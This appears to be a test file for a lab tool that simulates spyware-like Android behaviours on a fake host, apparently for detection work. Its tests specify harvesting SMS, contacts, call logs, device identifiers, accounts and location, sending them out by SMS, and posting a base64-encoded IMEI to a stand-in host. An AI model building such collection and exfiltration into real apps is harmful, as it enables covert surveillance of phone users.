import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isCanarytrapError } from '../../src/errors.ts';
import { silentLogger } from '../../src/log.ts';
import { startBehaviours, jobServiceName } from '../../src/lab/behaviour/index.ts';
import { DATA_ITEMS } from '../../src/android/lab-image.ts';
import { FakeHost, image, smsBehaviour } from '../support/lab-behaviour-fake-host.ts';

test('the payload holds every collected item read from the device, then the extra constants', async () => {
  const host = new FakeHost();
  const all = [...DATA_ITEMS];
  const runtime = startBehaviours(
    image([smsBehaviour('all', all, [], { ver: '5.1', beta: false })]),
    host,
    silentLogger(),
  );
  await runtime.runNow('all');
  const [sent] = host.ofType('sms.send');
  assert.equal(sent?.destination, '+15555550111');
  const payload = JSON.parse(sent?.body ?? 'null') as Record<string, unknown>;
  assert.deepEqual(Object.keys(payload), [...all, 'ver', 'beta']);
  assert.deepEqual(
    payload['sms'],
    host.sms.map((s) => ({ address: s.address, body: s.body, date: s.date, box: s.box })),
  );
  assert.deepEqual(payload['contacts'], host.readContacts());
  assert.deepEqual(payload['call_log'], host.readCallLog());
  const id = host.identity();
  assert.equal(payload['imei'], id.imei);
  assert.equal(payload['imsi'], id.imsi);
  assert.equal(payload['iccid'], id.iccid);
  assert.equal(payload['phone_number'], id.phoneNumber);
  assert.equal(payload['android_id'], id.androidId);
  assert.equal(payload['serial'], id.serial);
  assert.equal(payload['wifi_mac'], id.wifiMac);
  assert.deepEqual(payload['location'], { lat: 54.6872, lng: 25.2797 });
  assert.deepEqual(payload['accounts'], id.accounts);
  const props = host.properties();
  assert.deepEqual(payload['build'], {
    model: props['ro.product.model'],
    brand: 'BLU',
    fingerprint: props['ro.build.fingerprint'],
    version: '6.0',
    sdk: 23,
  });
  assert.equal(payload['ver'], '5.1');
  assert.equal(payload['beta'], false);

  const reads = host.ofType('source.read');
  assert.deepEqual(
    reads.map((r) => r.from),
    [
      'content://sms',
      'content://com.android.contacts/data',
      'content://call_log/calls',
      'TelephonyManager.getDeviceId',
      'TelephonyManager.getSubscriberId',
      'TelephonyManager.getSimSerialNumber',
      'TelephonyManager.getLine1Number',
      'Settings.Secure.ANDROID_ID',
      'Build.getSerial',
      'WifiInfo.getMacAddress',
      'LocationManager.getLastKnownLocation',
      'AccountManager.getAccounts',
      'android.os.Build',
    ],
  );
  const imeiRead = reads.find((r) => r.from === 'TelephonyManager.getDeviceId');
  assert.equal(imeiRead?.value, id.imei);
  for (const event of host.events) {
    assert.equal(event.pid, 4242);
    assert.equal(event.package, 'com.example.leaky');
    assert.equal(event.t, host.clock);
  }
  assert.ok(host.ofType('sms.send').every((e) => e.source === 'lab'));
  await runtime.stop();
});

test('triggers: boot and alarm become alarms, job a job, sms-received a listener', async () => {
  const host = new FakeHost();
  const bootTime = host.clock;
  const img = image([
    {
      ...(smsBehaviour('after-boot', ['imei']) as object),
      trigger: { on: 'boot', delaySeconds: 30 },
    },
    {
      ...(smsBehaviour('every-72h', ['imei']) as object),
      trigger: { on: 'alarm', everyHours: 72 },
    },
    {
      ...(smsBehaviour('first-soon', ['imei']) as object),
      trigger: { on: 'alarm', everyHours: 24, firstAfterHours: 1 },
    },
    {
      ...(smsBehaviour('command-poll', ['serial']) as object),
      trigger: { on: 'job', jobId: 7001, everyHours: 24 },
    },
    { ...(smsBehaviour('on-sms', ['sms']) as object), trigger: { on: 'sms-received' } },
  ]);
  const runtime = startBehaviours(img, host, silentLogger());
  const hour = 3_600_000;
  assert.deepEqual(
    host.alarms.map(({ pkg, tag, firstAt, repeatMs }) => ({ pkg, tag, firstAt, repeatMs })),
    [
      {
        pkg: 'com.example.leaky',
        tag: 'com.example.leaky.after-boot',
        firstAt: bootTime + 30_000,
        repeatMs: 0,
      },
      {
        pkg: 'com.example.leaky',
        tag: 'com.example.leaky.every-72h',
        firstAt: bootTime + 72 * hour,
        repeatMs: 72 * hour,
      },
      {
        pkg: 'com.example.leaky',
        tag: 'com.example.leaky.first-soon',
        firstAt: bootTime + hour,
        repeatMs: 24 * hour,
      },
    ],
  );
  assert.deepEqual(
    host.jobs.map(({ pkg, jobId, service, periodMs }) => ({ pkg, jobId, service, periodMs })),
    [
      {
        pkg: 'com.example.leaky',
        jobId: 7001,
        service: 'com.example.leaky/.CommandPollJobService',
        periodMs: 24 * hour,
      },
    ],
  );
  assert.equal(
    jobServiceName('com.adups.fota', 'command-poll'),
    'com.adups.fota/.CommandPollJobService',
  );
  assert.equal(host.smsListeners.length, 1);
  assert.equal(host.events.length, 0, 'nothing runs before a trigger fires');

  await host.alarms[0]?.work.run();
  await host.jobs[0]?.work.run();
  assert.deepEqual(
    host.ofType('source.read').map((r) => r.from),
    ['TelephonyManager.getDeviceId', 'Build.getSerial'],
  );
  host.smsListeners[0]?.({
    box: 'inbox',
    address: '+15555550150',
    body: 'incoming',
    date: host.clock,
  });
  await runtime.stop();
  assert.equal(
    host.ofType('sms.send').length,
    3,
    'the SMS-triggered run finished before stop resolved',
  );

  await runtime.stop();
  await host.alarms[1]?.work.run();
  assert.equal(host.ofType('sms.send').length, 3, 'work fired after stop does nothing');
  await assert.rejects(
    runtime.runNow('every-72h'),
    (e: unknown) => isCanarytrapError(e) && e.code === 'lab-behaviours-stopped',
  );
});

test('runNow names unknown and ambiguous behaviours', async () => {
  const host = new FakeHost();
  const img = image([smsBehaviour('same', ['imei'])]);
  img.apps.push({ ...structuredClone(img.apps[0]!), package: 'com.example.other' });
  const runtime = startBehaviours(img, host, silentLogger());
  await assert.rejects(
    runtime.runNow('nope'),
    (e: unknown) => isCanarytrapError(e) && e.code === 'lab-behaviour-unknown',
  );
  await assert.rejects(
    runtime.runNow('same'),
    (e: unknown) => isCanarytrapError(e) && e.code === 'lab-behaviour-ambiguous',
  );
  const outcome = await runtime.runNow('com.example.other/same');
  assert.equal(outcome.ok, true);
  assert.equal(host.ofType('sms.send')[0]?.package, 'com.example.other');
  await runtime.stop();
});

test('a send that cannot resolve fails as an outcome, logged, with no network event after the query', async () => {
  const host = new FakeHost();
  const img = image([
    {
      id: 'upload',
      description: 'x',
      trigger: { on: 'boot' },
      collect: ['imei'],
      encode: [{ op: 'base64' }],
      send: {
        channel: 'https',
        host: 'bigdata.example.org',
        path: '/up',
        carry: { as: 'form', field: 'data' },
      },
    },
  ]);
  const runtime = startBehaviours(img, host, silentLogger(), { sendTimeoutMs: 3000 });
  const outcome = await runtime.runNow('upload');
  assert.equal(outcome.ok, false);
  assert.ok(
    !outcome.ok && /lab-dns-failed|lab-send-timeout/.test(outcome.error),
    JSON.stringify(outcome),
  );
  assert.deepEqual(
    host.ofType('dns.query').map((q) => q.name),
    ['bigdata.example.org'],
  );
  assert.equal(host.ofType('net.connect').length + host.ofType('http.request').length, 0);
  await runtime.stop();
});
